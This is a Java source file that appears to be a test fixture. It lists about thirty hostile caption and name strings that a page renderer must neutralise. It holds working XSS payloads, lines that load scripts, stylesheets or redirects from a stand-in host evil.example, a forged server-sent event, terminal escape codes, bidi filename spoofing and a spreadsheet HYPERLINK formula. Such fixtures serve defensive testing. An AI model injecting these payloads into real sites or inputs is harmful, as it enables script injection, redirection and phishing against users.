package io.watchword.view.page;

import java.util.List;

/** Captions and names as somebody would write them who wants more than to be read. */
public final class HostileText {
    /** Each that runs sets {@code window.hit}. */
    public static final List<String> ALL =
            List.of(
                    "<script>window.hit=1</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "</p><script>window.hit=1</script><p>",
                    "<img src=x onerror=window.hit=1>",
                    "<img src='x' onerror='window.hit=1'>",
                    "<svg onload=window.hit=1>",
                    "<svg><script>window.hit=1</script></svg>",
                    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
                    "<body onload=window.hit=1>",
                    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
                    "<iframe src=\"javascript:parent.hit=1\"></iframe>",
                    "<a href=\"javascript:window.hit=1\">go</a>",
                    "javascript:window.hit=1",
                    "\" onmouseover=\"window.hit=1\" x=\"",
                    "' autofocus onfocus='window.hit=1",
                    "\"><details open ontoggle=window.hit=1>",
                    "<video><source onerror=window.hit=1></video>",
                    "<math><mi xlink:href=\"data:x,<script>window.hit=1</script>\">",
                    "<style>@import'//evil.example/x.css';</style>",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<meta http-equiv=refresh content='0;url=//evil.example'>",
                    "<base href=//evil.example/>",
                    "<form action=//evil.example><button>save</button></form>",
                    "{{constructor.constructor('window.hit=1')()}}",
                    "${window.hit=1}",
                    "&lt;script&gt;window.hit=1&lt;/script&gt;",
                    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
                    "]]><script>window.hit=1</script>",
                    "one line\r\n\r\ndata: {\"eventId\":\"forged\"}\n\nevent: cut\n\n",
                    "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
                    "gate \u202egpj.exe\u202c open \u2066hidden\u2069",
                    "=HYPERLINK(\"//evil.example\",\"click\")",
                    "%3Cscript%3Ewindow.hit%3D1%3C/script%3E");

    private HostileText() {}
}
